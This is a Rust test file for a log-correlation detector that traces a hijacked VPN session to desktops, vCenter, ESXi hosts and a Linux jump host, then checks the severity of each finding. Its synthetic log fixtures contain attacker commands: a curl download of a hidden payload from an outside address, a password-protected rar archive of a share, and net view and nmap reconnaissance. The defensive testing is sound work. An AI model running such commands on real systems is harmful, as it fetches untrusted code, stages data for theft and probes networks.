//! From a session in two places to machines and back; and silence where nothing is proven.

use konseki_model::{At, Basis, Fidelity, Finding, Kind, Level, Record, Stamp};

use super::Follow;
use crate::compare::{Compare, Settings};

pub(super) fn stamp(minute: i64) -> Stamp {
    Stamp::new(1_704_000_000_000_000 + minute * 60_000_000, Fidelity::Second, Basis::Written)
}

pub(super) fn event(source: &str, kind: Kind, minute: i64, host: &str, user: &str, src: &str) -> Record {
    Record {
        source: source.into(),
        evidence: source.into(),
        kind: Some(kind),
        host: host.into(),
        user: user.into(),
        src: src.into(),
        time: Some(stamp(minute)),
        at: Some(At::Line(minute.unsigned_abs() + 1)),
        ..Record::default()
    }
}

/// A VPN session taken over, a desktop from its inner address, vCenter from that desktop's network, a clone.
fn story(second: &str) -> Vec<Record> {
    let vpn = |kind, minute, src: &str, agent: &str| Record {
        session: if kind == Kind::AuthSuccess { String::new() } else { "sidaa11bb22".into() },
        agent: agent.into(),
        ..event("ivanti/syslog", kind, minute, "vpn", "hanako", src)
    };
    let mut all = vec![
        vpn(Kind::AuthSuccess, 1, "198.51.100.20", ""),
        vpn(Kind::SessionStart, 2, "198.51.100.20", "Pulse/22.3 (Windows 10)"),
        Record { assigned: "10.9.0.7".into(), ..vpn(Kind::TunnelStart, 40, second, "curl/8") },
        vpn(Kind::SessionChange, 45, "198.51.100.20", "Pulse/22.3 (Windows 10)"),
    ];
    all.push(Record {
        session: "0x5af1".into(),
        object: "10".into(),
        ..event("windows/evtx", Kind::AuthSuccess, 50, "RDS01", "CORP\\hanako", "10.9.0.7")
    });
    all.push(Record {
        session: "0x5af1".into(),
        command: "net view \\\\files".into(),
        ..event("windows/evtx", Kind::ProcessStart, 55, "RDS01", "CORP\\hanako", "")
    });
    all.push(event("vmware/vcenter_sso", Kind::AuthSuccess, 60, "vc", "hanako@corp.example", "10.9.0.7"));
    all.push(Record {
        object: "dc-copy".into(),
        target: "dc".into(),
        ..event("vmware/vcenter_events", Kind::VmClone, 70, "vc", "CORP\\hanako", "")
    });
    all
}

fn run(records: &[Record]) -> (Vec<Finding>, Vec<crate::Edge>) {
    let mut compare = Compare::new(&Settings::default());
    records.iter().for_each(|record| compare.observe(record));
    compare.settle();
    records.iter().for_each(|record| compare.again(record));
    let mut compared = compare.finish();
    let mut findings = std::mem::take(&mut compared.findings);
    let mut follow = Follow::new(&findings, &compared.joins);
    records.iter().for_each(|record| follow.observe(record));
    let (new, edges) = follow.finish(&mut findings);
    (new, edges)
}

fn of<'f>(found: &'f [Finding], rule: &str) -> Option<&'f Finding> {
    found.iter().find(|finding| finding.rule == rule)
}

#[test]
fn a_stolen_session_is_followed_to_desktop_and_platform() {
    let (found, edges) = run(&story("203.0.113.77"));
    let rules: Vec<&str> = found.iter().map(|finding| finding.rule.as_str()).collect();
    for rule in ["followed-logon", "followed-command", "followed-platform-login", "followed-vm-clone"] {
        assert!(rules.contains(&rule), "{rule} not in {rules:?}");
    }
    assert_eq!(of(&found, "followed-command").map(|f| (f.level, f.techniques.clone())), Some((Level::High, vec!["T1135".to_owned()])));
    assert!(edges.iter().all(|edge| edge.alternatives == 0));
}

#[test]
fn the_owner_logged_in_elsewhere_leaves_the_clone_open() {
    let mut records = story("203.0.113.77");
    records.insert(6, event("vmware/vcenter_sso", Kind::AuthSuccess, 58, "vc", "hanako@corp.example", "10.1.1.1"));
    let (found, edges) = run(&records);
    assert_eq!(of(&found, "followed-vm-clone").map(|f| f.level), Some(Level::Medium));
    assert!(edges.iter().any(|edge| edge.alternatives == 1));
}

#[test]
fn sessions_of_two_accounts_from_his_address_are_told_by_account_and_once_each() {
    let mut all = story("203.0.113.77");
    for (minute, user, inner) in [(200, "taro", "10.9.0.8"), (210, "jiro", "10.9.0.9")] {
        all.push(Record {
            session: format!("sid{user}11"),
            assigned: inner.into(),
            ..event("ivanti/syslog", Kind::TunnelStart, minute, "vpn", user, "203.0.113.77")
        });
        // What is done at a desktop of it leads back to the same login.
        all.push(Record {
            object: "10".into(),
            session: format!("0x{minute}"),
            ..event("windows/evtx", Kind::AuthSuccess, minute + 5, "RDS01", user, inner)
        });
        all.push(Record {
            command: "rar a -hp x.rar C:\\share".into(),
            session: format!("0x{minute}"),
            ..event("windows/evtx", Kind::ProcessStart, minute + 6, "RDS01", user, "")
        });
    }
    let (found, _) = run(&all);
    let logins: Vec<&Finding> = found.iter().filter(|finding| finding.rule == "followed-vpn-login").collect();
    let users: Vec<&str> = logins.iter().map(|finding| finding.args["user"].as_str()).collect();
    let mut places: Vec<_> = logins.iter().flat_map(|finding| &finding.because).map(|because| because.at).collect();
    places.sort();
    let all_places = places.len();
    places.dedup();
    assert!(users.contains(&"taro") && users.contains(&"jiro"), "{users:?}");
    assert_eq!(places.len(), all_places, "{logins:#?}");
}

#[test]
fn without_a_stolen_session_nothing_is_followed() {
    let (found, _) = run(&story("198.51.100.20"));
    assert!(found.is_empty());
}

/// As `story`, but vCenter hears an address that no log names.
fn unnamed(src: &str) -> Vec<Record> {
    let mut all = story("203.0.113.77");
    for record in all.iter_mut().filter(|record| record.source == "vmware/vcenter_sso") {
        record.src = src.into();
    }
    all.push(event("vmware/esxi_auth", Kind::SshSession, 75, "esx07", "root", src));
    all
}

#[test]
fn his_account_from_an_address_of_no_known_machine_is_followed_with_doubt() {
    let (found, _) = run(&unnamed("10.20.0.15"));
    for rule in ["followed-platform-login", "followed-vm-clone", "followed-ssh"] {
        assert_eq!(of(&found, rule).map(|finding| finding.level), Some(Level::Medium), "{rule}");
    }
}

#[test]
fn his_account_from_where_it_always_comes_is_its_owner() {
    let mut records = unnamed("10.20.0.15");
    let usual: Vec<Record> =
        (1..4).map(|day| event("vmware/vcenter_sso", Kind::AuthSuccess, -1440 * day, "vc", "hanako@corp.example", "10.20.0.15")).collect();
    records.splice(0..0, usual);
    let (found, _) = run(&records);
    assert!(of(&found, "followed-platform-login").is_none());
}

#[test]
fn the_account_after_its_desktop_was_left_is_not_his() {
    let mut records = unnamed("10.20.0.15");
    records.insert(6, Record { session: "0x5af1".into(), ..event("windows/evtx", Kind::AuthLogout, 57, "RDS01", "CORP\\hanako", "") });
    let (found, _) = run(&records);
    assert!(of(&found, "followed-platform-login").is_none());
}

#[test]
fn an_address_that_no_log_names_and_that_speaks_as_the_platform_itself_is_his() {
    let vpxuser = |minute, src: &str| event("vmware/esxi_hostd", Kind::ApiSession, minute, "esx01", "vpxuser", src);
    let mut records: Vec<Record> = (0..40).map(|n| vpxuser(n * 60, "10.5.0.2")).collect();
    records.push(vpxuser(2500, "10.8.0.9"));
    records.push(event("vmware/esxi_auth", Kind::SshSession, 2530, "esx07", "root", "10.8.0.9"));
    records.push(event("vmware/esxi_auth", Kind::SshSession, 2540, "esx07", "root", "10.5.0.40"));
    let (found, _) = run(&records);
    let ssh: Vec<(&str, Level)> = found.iter().map(|finding| (finding.rule.as_str(), finding.level)).collect();
    assert_eq!(ssh, [("followed-ssh", Level::High)]);
}

#[test]
fn shares_that_an_account_opens_from_there_again_and_again_are_its_own_work() {
    let share = |day: i64, object: &str, src: &str| Record {
        object: object.into(),
        ..event("windows/evtx", Kind::ShareAccess, 1440 * day, "FS01", "CORP\\hanako", src)
    };
    let mut opened = super::live::Opened::default();
    for day in [1, 1, 2] {
        let record = share(day, "\\\\*\\Projects", "10.1.0.21");
        opened.note(&record, record.micros().unwrap_or_default());
    }
    assert!(opened.before(&share(3, "\\\\*\\Projects", "10.1.0.21")));
    // On the second day it had come once; another share, and another place, are new.
    assert!(!opened.before(&share(2, "\\\\*\\Projects", "10.1.0.21")));
    assert!(!opened.before(&share(3, "\\\\*\\Finance$", "10.1.0.21")));
    assert!(!opened.before(&share(3, "\\\\*\\Projects", "10.1.0.99")));
}

/// On a desktop of his another account's password is used: its desktop on the next system is his, too.
#[test]
fn credentials_used_in_his_session_lead_to_the_next_desktop() {
    let mut records = story("203.0.113.77");
    records.push(Record {
        session: "0x5af1".into(),
        target: "CORP\\ops-17".into(),
        object: "ADM01".into(),
        dst: "ADM01".into(),
        ..event("windows/evtx", Kind::AuthExplicit, 80, "RDS01", "CORP\\hanako", "")
    });
    let next = |user: &str, minute| Record {
        session: format!("0x77{minute}"),
        object: "10".into(),
        ..event("windows/evtx", Kind::AuthSuccess, minute, "ADM01", user, "10.0.4.21")
    };
    // Who came from there on other days is at his own work.
    records.insert(0, next("CORP\\taro", -4000));
    records.push(next("CORP\\ops-17", 81));
    records.push(next("CORP\\taro", 83));
    let (found, _) = run(&records);
    let to: Vec<_> =
        found.iter().filter(|f| f.rule == "followed-logon" && f.args["host"] == "ADM01").map(|f| f.args["user"].as_str()).collect();
    assert_eq!(to, ["CORP\\ops-17"]);
}

/// Plain syslog names the source of an SSH login with the password, not with the session.
#[test]
fn an_ssh_login_on_linux_is_followed_to_its_commands() {
    let mut records = story("203.0.113.77");
    records.push(Record { src_port: Some(50_022), ..event("linux/syslog", Kind::AuthSuccess, 90, "jump", "ops", "10.9.0.7") });
    let curl = "curl -sk -o /tmp/.x https://203.0.113.9/e";
    records.push(Record { command: curl.into(), ..event("linux/auditd", Kind::ProcessStart, 95, "jump", "ops", "") });
    let (found, _) = run(&records);
    assert_eq!(of(&found, "followed-ssh").map(|f| f.args["host"].as_str()), Some("jump"));
    assert!(found.iter().any(|f| f.rule == "followed-command" && f.args["command"] == curl));
}

/// From a command on a hypervisor back over a jump host to a firewall's VPN, and to what came from the same place days before.
#[test]
fn a_stolen_password_at_a_firewall_is_found_from_behind() {
    let gate = |kind, minute, session: &str, src: &str| Record {
        session: session.into(),
        assigned: if kind == Kind::SessionStart { String::new() } else { "10.212.9.1".into() },
        ..event("network/firewall", kind, minute, "", "fujii", src)
    };
    let jump = |minute| Record { src_port: Some(51_022), ..event("linux/syslog", Kind::AuthSuccess, minute, "jump", "ops", "10.212.9.1") };
    let flow = |minute, length: i64| Record {
        dst: "10.8.4.15".into(),
        dst_port: Some(22),
        src_port: Some(51_022),
        duration: Some(length * 60_000_000),
        ..event("network/firewall", Kind::Flow, minute, "fw", "", "10.212.9.1")
    };
    let mut records = Vec::new();
    for (start, end, id) in [(100, 200, "111"), (3000, 3300, "222")] {
        records.push(gate(Kind::SessionStart, start, id, "198.51.100.66"));
        records.push(gate(Kind::TunnelStart, start, id, "198.51.100.66"));
        records.push(jump(start + 5));
        records.push(flow(end - 10, end - 15 - start));
        records.push(gate(Kind::TunnelEnd, end, id, "198.51.100.66"));
    }
    records.push(Record { command: "nmap -p 22 10.8.5.0/24".into(), ..event("linux/auditd", Kind::ProcessStart, 110, "jump", "ops", "") });
    records.push(event("vmware/esxi_auth", Kind::SshSession, 3060, "esx01", "root", "10.8.4.15"));
    records.sort_by_key(Record::micros);
    let mut compare = Compare::new(&Settings::default());
    records.iter().for_each(|record| compare.observe(record));
    compare.settle();
    let mut compared = compare.finish();
    let kill = Record { session: "77".into(), ..event("vmware/esxi_shell", Kind::ShellCommand, 3065, "esx01", "root", "") };
    let mut findings = std::mem::take(&mut compared.findings);
    findings.push(
        crate::compare::Draft {
            rule: "kill",
            level: Level::High,
            confidence: 0.8,
            techniques: &["T1489"],
            tactics: &["impact"],
            records: &[&kill],
            entities: vec![crate::compare::host("esx01"), konseki_model::Entity::new(konseki_model::EntityKind::User, "root", "actor")],
            args: &[],
        }
        .finding(),
    );
    let mut follow = Follow::new(&findings, &compared.joins);
    records.iter().for_each(|record| follow.observe(record));
    let (found, _) = follow.finish(&mut findings);
    let logins: Vec<_> = found.iter().filter(|f| f.rule == "followed-vpn-login").map(|f| (f.args["user"].as_str(), f.level)).collect();
    assert!(logins.contains(&("fujii", Level::High)), "{logins:?}");
    assert!(found.iter().all(|f| f.rule != "followed-vpn-login" || !f.args.contains_key("host")));
    let early = found.iter().find(|f| f.rule == "followed-command");
    assert_eq!(early.map(|f| (f.techniques[0].as_str(), f.level)), Some(("T1046", Level::Medium)));
}
